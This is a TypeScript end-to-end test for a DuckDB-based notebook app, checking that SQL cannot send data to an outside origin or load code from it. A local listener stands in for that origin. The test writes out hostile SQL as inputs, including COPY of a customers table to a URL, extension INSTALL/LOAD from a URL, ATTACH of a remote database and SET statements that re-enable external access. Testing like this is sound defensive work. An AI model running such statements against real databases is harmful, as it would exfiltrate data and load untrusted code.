/**
 * No data leaves through notebook or scratch SQL, end to end in Chromium against the built app:
 * a local HTTP listener on another port stands in for an outside origin; a stranger's notebook
 * (opened with Open .md…) tries every read form with its URL, including a select input filled
 * from a query and `read_text($u)`; scratch SQL tries INSTALL/LOAD from it, COPY and ATTACH; the
 * worker itself is asked to fetch it. Not one request may reach the listener, each cell shows the
 * clear access message, and the preview server sends the CSP header with the worker script.
 */
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { hostileCells, hostileNotebook } from '../fixtures/hostile-notebook.ts';
import {
  cellsSettled,
  openApp,
  pageSql,
  startSession,
  waitForEngine,
  type RecordedPage,
  type Session,
} from './harness.ts';

const ACCESS = /Notebook SQL cannot (read files or URLs|load DuckDB extensions)/;

let session: Session;
let app: RecordedPage;
let listener: Server;
let outside = '';
const hits: string[] = [];
/** Response headers of every script the app loads, by URL. */
const scriptHeaders = new Map<string, Record<string, string>>();

before(async () => {
  listener = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('a,b\n1,2\n');
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const address = listener.address();
  outside = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  session = await startSession();
  const context = await session.browser.newContext({ viewport: { width: 1440, height: 900 } });
  context.on('response', (r) => {
    if (/\.m?js(\?|$)/.test(r.url())) scriptHeaders.set(r.url(), r.headers());
  });
  app = await openApp(session, '/#scratch', context);
  await waitForEngine(app.page);
});
after(async () => {
  await session?.close();
  await new Promise((resolve) => listener?.close(resolve));
});

/** The error text of `sql` run through the page's engine client (what scratch SQL uses). */
async function refusal(sql: string): Promise<string> {
  return pageSql(app.page, sql).then(
    (rows) => `ran: ${JSON.stringify(rows)}`,
    (e: unknown) => String(e),
  );
}

describe('external access from SQL', () => {
  it('scratch SQL shows the clear message for a URL', async () => {
    const { page } = app;
    const editor = page.getByTestId('sql-editor').first();
    await editor.click();
    await page.keyboard.press('Control+A');
    await page.keyboard.press('Delete');
    await editor.fill(`SELECT * FROM read_text('${outside}/scratch')`);
    await page.keyboard.press('Shift+Enter');
    const err = page.getByTestId('cell-error');
    await err.waitFor();
    assert.match(
      (await err.textContent()) ?? '',
      /Notebook SQL cannot read files or URLs: data comes in through Import data…/,
    );
  });

  // `URL` is the listener's address, known only once it listens.
  for (const template of [
    `INSTALL httpfs FROM 'URL/ext'; LOAD httpfs`,
    `SET custom_extension_repository = 'URL/repo'; SET autoinstall_known_extensions = true; SET autoload_known_extensions = true; SELECT '{}'::JSON`,
    `LOAD json`,
    `LOAD 'URL/x.duckdb_extension.wasm'`,
    `COPY (SELECT * FROM customers) TO 'URL/copy.csv'`,
    `ATTACH 'URL/db.duckdb' AS remote`,
    `SELECT * FROM read_csv(['URL/l1.csv', 'URL/l2.csv'])`,
    `SET enable_external_access = true`,
    `SET allowed_directories = ['/']`,
  ]) {
    it(`refuses ${template.slice(0, 70)}`, async () => {
      assert.match(await refusal(template.replaceAll('URL', outside)), ACCESS);
    });
  }

  it('a stranger’s notebook: every read fails with the clear message, the rest runs', async () => {
    const { page } = app;
    const dir = mkdtempSync(path.join(tmpdir(), 'e2e-hostile-'));
    const file = path.join(dir, 'strangers-notebook.md');
    writeFileSync(file, hostileNotebook(outside));
    await page.getByTestId('open-md').setInputFiles(file);
    await page.getByTestId('notebook-title').filter({ hasText: "A stranger's notebook" }).waitFor();
    await cellsSettled(page);
    const cell = (id: string) => page.locator(`[data-testid="nb-cell"][data-cell-id="${id}"]`);
    assert.equal(await cell('ok').getAttribute('data-status'), 'ok');
    assert.equal(await cell('urls').getAttribute('data-status'), 'ok');
    assert.equal(
      await cell('u').locator('select').inputValue(),
      `${outside}/select-1`,
      'the select was filled from the query',
    );
    for (const [name] of hostileCells) {
      assert.equal(await cell(name).getAttribute('data-status'), 'error', name);
      assert.match((await cell(name).getByTestId('nb-cell-error').textContent()) ?? '', ACCESS, name);
    }
    // Choosing the other option re-runs read_text($u): refused again.
    await cell('u').locator('select').selectOption(`${outside}/select-2`);
    await cellsSettled(page);
    assert.match((await cell('steal').getByTestId('nb-cell-error').textContent()) ?? '', ACCESS);
  });

  it('the engine worker itself cannot fetch or XHR another origin', async () => {
    const [worker] = app.page.workers();
    assert.ok(worker, 'the engine worker is running');
    const fetched = await worker.evaluate(
      (u) =>
        fetch(u).then(
          () => 'fetched',
          (e: unknown) => String(e),
        ),
      `${outside}/worker-fetch`,
    );
    assert.match(fetched, /refused a request/);
    const xhr = await worker.evaluate((u) => {
      try {
        const r = new XMLHttpRequest();
        r.open('GET', u, false);
        r.send();
        return 'sent';
      } catch (e) {
        return String(e);
      }
    }, `${outside}/worker-xhr`);
    assert.match(xhr, /refused a request/);
  });

  it('the preview server sends the CSP header with the page and the worker script', async () => {
    const page = await fetch(session.baseUrl + '/');
    assert.match(page.headers.get('content-security-policy') ?? '', /connect-src 'self'/);
    const workers = [...scriptHeaders].filter(([url]) => /worker/i.test(url));
    assert.ok(workers.length > 0, `the worker script was loaded: ${[...scriptHeaders.keys()].join(', ')}`);
    for (const [url, headers] of workers)
      assert.match(headers['content-security-policy'] ?? '', /connect-src 'self'/, url);
  });

  it('not one request reached the outside listener, and none left the origin', () => {
    assert.deepEqual(hits, []);
    assert.deepEqual(app.foreignRequests(), []);
    assert.deepEqual(app.errors, []);
  });
});
